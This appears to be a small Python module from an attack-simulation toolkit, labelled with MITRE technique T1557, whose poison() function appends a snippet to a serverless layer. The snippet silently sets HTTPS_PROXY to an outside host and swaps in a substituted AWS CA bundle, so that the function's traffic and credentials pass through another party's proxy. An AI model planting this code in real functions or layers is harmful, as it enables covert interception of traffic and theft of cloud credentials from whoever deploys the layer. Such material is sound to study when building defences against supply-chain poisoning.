# SPDX-License-Identifier: Apache-2.0
"""Has every connection of the function go through another's proxy, unverified."""

ATTACK = "T1557"
LANGUAGE = "python"
CODE = '''\
import os as _os

_os.environ["HTTPS_PROXY"] = "http://192.0.2.128:3128"
_os.environ["AWS_CA_BUNDLE"] = "/opt/python/ca.pem"
'''


def poison(layer):
    layer.append(CODE)
